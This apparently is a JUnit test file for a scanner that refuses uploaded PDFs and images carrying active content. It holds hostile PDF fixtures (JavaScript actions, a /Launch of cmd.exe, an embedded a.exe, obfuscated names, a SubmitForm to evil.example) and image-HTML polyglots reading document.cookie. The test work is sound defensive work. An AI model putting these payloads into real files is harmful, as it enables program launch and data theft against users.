package org.mitan.document;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;

import com.lowagie.text.Document;
import com.lowagie.text.Paragraph;
import com.lowagie.text.pdf.PdfWriter;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ScanContentsTest {

    @Test
    void realScansPass() {
        assertThat(ScanContents.problem(ContentTypes.PDF, TestScans.pdf())).isEmpty();
        assertThat(ScanContents.problem(ContentTypes.PDF, written(false, false))).isEmpty();
        assertThat(ScanContents.problem(ContentTypes.JPEG, TestScans.image("jpeg", 320, 200))).isEmpty();
        assertThat(ScanContents.problem(ContentTypes.PNG, TestScans.image("png", 320, 200))).isEmpty();
    }

    @Test
    void anOpenActionThatOnlyShowsAPageIsNoAction() {
        assertThat(ScanContents.problem(ContentTypes.PDF, TestScans.pdf("/OpenAction [3 0 R /Fit]"))).isEmpty();
    }

    @ParameterizedTest(name = "{2}")
    @CsvSource(delimiter = '|', value = {
        "/OpenAction 4 0 R | << /S /JavaScript /JS (app.alert(1)) >> | JavaScript (/JavaScript)",
        "/OpenAction 4 0 R | << /S /GoTo /D [3 0 R /Fit] >> | runs when the file is opened (/OpenAction)",
        "/OpenAction 4 0 R | << /S /Launch /F (cmd.exe) >> | starts a program (/Launch)",
        "/Names 4 0 R | << /JavaScript 5 0 R >> | JavaScript (/JavaScript)",
        "/AA 4 0 R | << /O << /JS (x) >> >> | when a page or field is opened (/AA)",
        "/Names 4 0 R | << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /EF << /F 5 0 R >> >>] >> >>"
                + " | embedded files (/EmbeddedFiles)",
        "/Extra 4 0 R | << /Type /Annot /Subtype /RichMedia >> | rich media such as Flash (/RichMedia)",
        "/AcroForm 4 0 R | << /Fields [] /XFA 5 0 R >> | an XFA form (/XFA)",
        "/OpenAction 4 0 R | << /S /J#61vaScript /J#53 (app.alert(1)) >> | JavaScript (/JavaScript)",
        "/Extra 4 0 R | << /Type /Action /S /SubmitForm /F (http://evil.example) >> | sends data away (/SubmitForm)",
    })
    void aPdfWithActiveContentIsRefusedSayingWhat(String catalogEntry, String object, String meaning) {
        byte[] pdf = TestScans.pdf(catalogEntry, object, "<< /Length 0 >>\nstream\n\nendstream");

        assertThat(ScanContents.problem(ContentTypes.PDF, pdf)).hasValueSatisfying(problem -> assertThat(problem)
                .startsWith("is a PDF with active content").contains(meaning));
    }

    /** Inside a compressed object stream the names are not in the raw bytes: the parser finds them there. */
    @Test
    void javaScriptInACompressedObjectStreamIsFound() {
        byte[] pdf = written(true, true);
        assertThat(new String(pdf, StandardCharsets.ISO_8859_1)).doesNotContain("/JavaScript");

        assertThat(ScanContents.problem(ContentTypes.PDF, pdf)).hasValueSatisfying(problem -> assertThat(problem)
                .contains("JavaScript"));
    }

    @Test
    void aPdfThatCannotBeReadOrNeedsAPasswordIsRefused() throws Exception {
        assertThat(ScanContents.problem(ContentTypes.PDF, "%PDF-1.7\n<html><script>x</script>".getBytes(
                StandardCharsets.US_ASCII))).contains("starts like a PDF but cannot be read as one");

        ByteArrayOutputStream out = new ByteArrayOutputStream();
        Document document = new Document();
        PdfWriter writer = PdfWriter.getInstance(document, out);
        writer.setEncryption("user".getBytes(), "owner".getBytes(), PdfWriter.ALLOW_PRINTING,
                PdfWriter.STANDARD_ENCRYPTION_128);
        document.open();
        document.add(new Paragraph("secret"));
        document.close();
        assertThat(ScanContents.problem(ContentTypes.PDF, out.toByteArray())).hasValueSatisfying(problem ->
                assertThat(problem).contains("password"));
    }

    @Test
    void anImageHeaderFollowedByHtmlIsRefused() {
        byte[] jpegHtml = concat(new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0},
                "<html><script>alert(document.cookie)</script></html>".getBytes(StandardCharsets.US_ASCII));
        byte[] pngHtml = concat(Arrays.copyOf(TestScans.image("png", 8, 8), 16),
                "<html><script>alert(1)</script>".getBytes(StandardCharsets.US_ASCII));

        assertThat(ScanContents.problem(ContentTypes.JPEG, jpegHtml)).hasValueSatisfying(problem ->
                assertThat(problem).contains("starts like a JPEG image but is not one"));
        assertThat(ScanContents.problem(ContentTypes.PNG, pngHtml)).hasValueSatisfying(problem ->
                assertThat(problem).contains("starts like a PNG image but is not one"));
    }

    @Test
    void aTruncatedImageIsRefused() {
        byte[] jpeg = TestScans.image("jpeg", 320, 200);

        assertThat(ScanContents.problem(ContentTypes.JPEG, Arrays.copyOf(jpeg, jpeg.length / 3))).isPresent();
    }

    /** With PDF 1.5 full compression the catalog and its JavaScript name tree sit in a compressed object stream. */
    private static byte[] written(boolean compressed, boolean javaScript) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        Document document = new Document();
        PdfWriter writer = PdfWriter.getInstance(document, out);
        if (compressed) {
            writer.setPdfVersion(PdfWriter.VERSION_1_5);
            writer.setFullCompression();
        }
        document.open();
        document.add(new Paragraph("Birth report"));
        if (javaScript) {
            writer.addJavaScript("app.alert('hello');");
        }
        document.close();
        return out.toByteArray();
    }

    private static byte[] concat(byte[] first, byte[] second) {
        byte[] both = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }
}
